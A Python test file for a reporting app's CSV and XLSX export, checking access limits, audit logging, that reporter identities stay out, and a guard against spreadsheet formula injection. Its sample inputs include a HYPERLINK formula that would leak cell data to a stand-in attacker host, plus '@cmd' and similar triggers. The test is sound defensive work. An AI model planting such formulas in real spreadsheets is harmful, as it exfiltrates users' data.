"""导出: the inbox and 检索 as CSV and XLSX, streamed, logged, without identities or formulas."""

from __future__ import annotations

import csv
import io
import threading
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy.orm import Session, sessionmaker

from minyi.cli import main
from store.db import reading
from store.models import CollectionPoint, ExportLog, Report, Reporter, ReporterKind, Role, User
from store.network import roster
from store.outputs import exports, sheets
from store.search.query import Filters
from tests.conftest import Network, staff
from tests.domain_support import make_report
from tests.test_cli import env  # noqa: F401  (the command line's clean environment)
from tests.web_support import login

PHONE = "13912345678"
NAME = "王秘密"
# What a spreadsheet would run, and what it must show as typed instead.
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "+SUM(1,2)", "-2+3", "@cmd",
            "\t=1+1")  # a leading CR cannot be stored: drafts normalise line ends (sheets still guard it)


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, so Excel reads the Chinese"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [list(row) for row in book.worksheets[0].iter_rows()]


def _identified(session: Session, **kw: object) -> Report:
    """A report whose reporter has a name and a phone number on record."""
    who = Reporter(channel="telegram", external_id="tg-77", chat_id="tg-77", display_name=NAME,
                   contact=PHONE, member_name=NAME)
    session.add(who)
    session.flush()
    report = make_report(session, who=who, **kw)  # type: ignore[arg-type]
    report.contact = PHONE
    report.answers = {**report.answers, "contact": PHONE}
    return report


def test_it_exports_a_search_as_csv_with_the_office_columns_and_logs_it(
        client: FlaskClient, session: Session, admin: User) -> None:
    hit = _identified(session, title="老旧小区加装电梯", category="livelihood", urgent=True)
    make_report(session, title="人民路停车难")
    session.commit()
    login(client, "alice")
    resp = client.get("/reports/export.csv?q=电梯&urgency=urgent")
    assert resp.status_code == 200
    assert resp.mimetype == "text/csv" and resp.is_streamed
    assert "attachment" in resp.headers["Content-Disposition"]
    data = resp.get_data()
    rows = _csv(data)
    assert rows[0] == list(exports.HEADER)
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["编号"] == hit.tracking_no and row["标题"] == "老旧小区加装电梯"
    assert row["类别"] == "民生" or row["类别"] != "livelihood"
    assert row["紧急程度"] == "紧急" and row["状态"] == "已提交，待审核" and row["所在审核环节"] == "初审"
    assert row["来源"] == "群众" and row["提交时间"][:2] == "20"
    # Never who reported it, nor how to reach them.
    text = data.decode("utf-8-sig")
    assert PHONE not in text and NAME not in text and "tg-77" not in text

    session.expire_all()
    entry = session.scalars(sa.select(ExportLog)).one()
    assert entry.user_id == admin.id and entry.via == "console" and entry.format == "csv"
    assert entry.filters == {"q": "电梯", "urgency": "urgent"}
    assert entry.rows == 1 and entry.finished_at is not None


def test_formulas_stay_text_in_csv_and_xlsx(client: FlaskClient, session: Session, admin: User) -> None:
    long_situation = "情况" * 1200  # 2,400 characters
    for i, title in enumerate(FORMULAS):
        make_report(session, title=title, situation=long_situation if i == 0 else "情况说明",
                    suggestion="=1+1")
    make_report(session, title="电梯坏了😀" + "长" * 190)
    session.commit()
    login(client, "alice")

    rows = _csv(client.get("/reports/export.csv").get_data())
    head = rows[0]
    titles = {r[head.index("标题")] for r in rows[1:]}
    assert titles >= {"'" + f for f in FORMULAS}, "a leading apostrophe: shown, never run"
    assert "电梯坏了😀" + "长" * 190 in titles
    assert {r[head.index("意见建议")] for r in rows[2:]} == {"'=1+1"}  # newest (the emoji one) first
    assert long_situation in {r[head.index("情况")] for r in rows[1:]}

    sheet = _xlsx(client.get("/reports/export.xlsx").get_data())
    head_x = [c.value for c in sheet[0]]
    assert head_x == list(exports.HEADER)
    cells = [r[head_x.index("标题")] for r in sheet[1:]]
    assert all(c.data_type == "s" for c in cells), "string cells: Excel does not evaluate them"
    # XLSX keeps the text as typed (XML reads a carriage return back as a line feed).
    assert {c.value for c in cells} >= {f.replace("\r", "\n") for f in FORMULAS}
    assert long_situation in {r[head_x.index("情况")].value for r in sheet[1:]}
    assert all(r[head_x.index("意见建议")].data_type == "s" for r in sheet[1:])


def test_it_exports_only_what_the_user_may_see(client: FlaskClient, session: Session,
                                               network: Network) -> None:
    here = CollectionPoint(name="城关镇", unit_id=network.township.id)
    there = CollectionPoint(name="东山乡", unit_id=network.other_county.id)
    session.add_all([here, there])
    session.flush()
    make_report(session, point=here, title="城关加装电梯")
    make_report(session, point=there, title="东山加装电梯")
    session.commit()
    staff(session, "towny", Role.CLERK, network.township)
    login(client, "towny")
    rows = _csv(client.get("/reports/export.csv").get_data())
    assert [r[rows[0].index("标题")] for r in rows[1:]] == ["城关加装电梯"]
    assert rows[1][rows[0].index("单位")] == "城关镇政协联络组"
    assert rows[1][rows[0].index("采集点")] == "城关镇"
    # Asking for the other county's unit finds nothing rather than its reports.
    rows = _csv(client.get(f"/reports/export.csv?unit={network.other_county.id}").get_data())
    assert rows == [list(exports.HEADER)]


def test_the_inbox_tabs_export_what_they_show(client: FlaskClient, session: Session,
                                              admin: User) -> None:
    make_report(session, title="一号")
    make_report(session, title="二号")
    session.commit()
    login(client, "alice")
    html = client.get("/reports").get_data(as_text=True)
    assert 'href="/reports/export.xlsx"' in html and 'href="/reports/export.csv"' in html
    html = client.get("/reports?tab=mine").get_data(as_text=True)
    assert "/reports/export.csv?tab=mine" in html
    mine = _csv(client.get("/reports/export.csv?tab=mine").get_data())
    assert len(mine) == 3  # the admin signs off every level
    returned = _csv(client.get("/reports/export.csv?status=returned").get_data())
    assert len(returned) == 1
    search_html = client.get("/search?q=一号").get_data(as_text=True)
    assert "/reports/export.xlsx?q=" in search_html


def test_bad_export_requests_get_a_clear_answer_and_log_nothing(
        client: FlaskClient, session: Session, admin: User) -> None:
    make_report(session)
    session.commit()
    login(client, "alice")
    assert client.get("/reports/export.pdf").status_code == 404
    resp = client.get("/reports/export.csv?from=2026-99-99&q=路灯")
    assert resp.status_code == 302 and "/search?" in resp.headers["Location"]
    page = client.get(resp.headers["Location"]).get_data(as_text=True)
    assert "无法识别的条件" in page
    # An empty period, a range that ends before it starts: a file with the header only.
    rows = _csv(client.get("/reports/export.csv?from=2030-01-02&to=2030-01-01").get_data())
    assert rows == [list(exports.HEADER)]
    assert client.get("/reports/export.csv", follow_redirects=False).status_code == 200
    session.expire_all()
    assert session.scalar(sa.select(sa.func.count()).select_from(ExportLog)) == 2
    stranger = client.application.test_client()
    assert stranger.get("/reports/export.csv").status_code == 302  # to the login page


def test_rows_stream_and_do_not_hold_the_write_lock(Session_: sessionmaker[Session], session: Session,
                                                    admin: User) -> None:
    for i in range(5):
        make_report(session, title=f"第{i}条")
    session.commit()
    counter = exports.Counter()
    with reading(Session_) as s:
        user = s.get(User, admin.id)
        assert user is not None
        rows = exports.rows(s, user, Filters(), {}, counter)
        first = next(rows)
        assert first[4] == "第4条" and counter.rows == 1, "newest first, one row at a time"
        # A writer elsewhere is not blocked while the export reads.
        done: list[bool] = []

        def write() -> None:
            with Session_() as w, w.begin():
                w.execute(sa.update(Report).where(Report.id == 1).values(summary="摘要"))
            done.append(True)

        writer = threading.Thread(target=write)
        writer.start()
        writer.join(timeout=10)
        assert done == [True]
        assert len(list(rows)) == 4 and counter.rows == 5


def test_an_xlsx_beyond_excels_rows_goes_on_in_a_second_sheet(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "XLSX_MAX_ROWS", 4)
    buf = io.BytesIO()
    sheets.write_xlsx(buf, "信息", ["号"], ([str(i)] for i in range(7)))
    book = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))
    assert book.sheetnames == ["信息", "信息 2", "信息 3"]
    assert [[c.value for c in r] for r in book["信息 2"].iter_rows()] == [["号"], ["3"], ["4"], ["5"]]


def test_the_command_line_exports_as_a_staff_member(
        env: str, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:  # noqa: F811
    assert main(["init", "--admin-user", "boss", "--admin-password", "correct horse battery"]) == 0
    from minyi.cli.common import sessions
    from minyi.settings import Settings

    engine, Session = sessions(Settings.from_env())  # noqa: N806
    with Session() as s, s.begin():
        make_report(s, title="=HYPERLINK(\"x\")", situation="路面塌陷 3 处。", commit=False)
        make_report(s, title="城关加装电梯", situation="城关 5 个小区。", commit=False)
    engine.dispose()
    out = tmp_path / "out.xlsx"
    assert main(["export", "reports", "--user", "boss", "--q", "城关加装", "-o", str(out)]) == 0
    assert "1 reports written" in capsys.readouterr().out
    sheet = _xlsx(out.read_bytes())
    assert [c.value for c in sheet[1]][4] == "城关加装电梯" and len(sheet) == 2
    out_csv = tmp_path / "all.csv"
    assert main(["export", "reports", "--user", "boss", "-o", str(out_csv)]) == 0
    assert {r[4] for r in _csv(out_csv.read_bytes())[1:]} == {"'=HYPERLINK(\"x\")", "城关加装电梯"}

    assert main(["export", "reports", "--user", "boss", "-o", str(tmp_path / "x.pdf")]) == 1
    assert main(["export", "reports", "--user", "nobody", "-o", str(tmp_path / "y.csv")]) == 1
    assert main(["export", "reports", "--user", "boss", "--from", "2026-13-01",
                 "-o", str(tmp_path / "z.csv")]) == 1
    err = capsys.readouterr().err
    assert ".csv or .xlsx" in err and "nobody" in err and "from" in err
    assert not (tmp_path / "y.csv").exists() and not (tmp_path / "z.csv").exists()
    assert not list(tmp_path.glob(".export-*")), "no half-written file is left behind"
    engine, Session = sessions(Settings.from_env())  # noqa: N806
    with Session() as s:
        logged = s.execute(sa.select(ExportLog.via, ExportLog.format, ExportLog.rows)
                           .order_by(ExportLog.id)).all()
    engine.dispose()
    assert logged == [("cli", "xlsx", 1), ("cli", "csv", 2)]


def _csv_as_before(header: list[str], rows: list[list[sheets.Cell]], guarded: list[int] | None) -> bytes:
    """The export's CSV as csv.writer writes it, a formula's start given an apostrophe: the
    bytes the column-wise writer must reproduce."""
    buf = io.StringIO()
    out = csv.writer(buf)
    out.writerow(header)
    for row in rows:
        out.writerow(["'" + v if isinstance(v, str) and v[:1] and v[0] in sheets.CSV_TRIGGERS
                      and (guarded is None or i in guarded) else v for i, v in enumerate(row)])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


_cells = st.one_of(st.none(), st.integers(-10**12, 10**12),
                   st.text(st.sampled_from('=+-@\t\r\n,"\' a中😀'), max_size=8), st.text(max_size=12))


@settings(max_examples=300, deadline=None)
@given(data=st.data(), width=st.integers(1, 5), length=st.integers(0, 7))
def test_it_writes_the_bytes_csv_writer_writes(data: st.DataObject, width: int, length: int) -> None:
    rows = data.draw(st.lists(st.lists(_cells, min_size=width, max_size=width),
                              min_size=length, max_size=length))
    guarded = data.draw(st.none() | st.lists(st.integers(0, width - 1), unique=True))
    header = [f"列{i}" for i in range(width)]
    expected = _csv_as_before(header, rows, guarded)
    assert b"".join(sheets.csv_chunks(header, rows, guarded)) == expected
    # Given by column, in batches of any size, the same bytes.
    size = data.draw(st.integers(1, 4))
    batches = [list(zip(*rows[i:i + size], strict=True)) for i in range(0, len(rows), size)]
    assert b"".join(sheets.csv_pieces(header, batches, guarded)) == expected


def test_batches_and_rows_give_the_same_cells(Session_: sessionmaker[Session], session: Session,
                                             admin: User) -> None:
    person = roster.add(session, roster.entry(name="王委员", role="member", unit_id=None))
    member = Reporter(channel="telegram", external_id="tg-m", chat_id="tg-m", kind=ReporterKind.MEMBER,
                      member_id=person.id)
    session.add(member)
    session.flush()
    for i in range(7):
        make_report(session, title=f"={i}" if i % 2 else f"第{i}条", urgent=i == 3,
                    who=member if i == 5 else None)
    session.commit()
    with reading(Session_) as s:
        user = s.get(User, admin.id)
        assert user is not None
        counter = exports.Counter()
        by_column = [row for batch in exports.batches(s, user, Filters(), {}, counter)
                     for row in zip(*batch, strict=True)]
        assert by_column == list(exports.rows(s, user, Filters(), {}))
    assert counter.rows == 7 and len(by_column[0]) == len(exports.HEADER)
    assert [r[4] for r in by_column][:2] == ["第6条", "=5"]
    assert [r[9] for r in by_column] == ["一般", "一般", "一般", "紧急", "一般", "一般", "一般"]
    # Who reported: a member is 委员, everyone else 群众 (newest first: report 5 is second).
    assert [r[11] for r in by_column] == ["群众", "委员", "群众", "群众", "群众", "群众", "群众"]
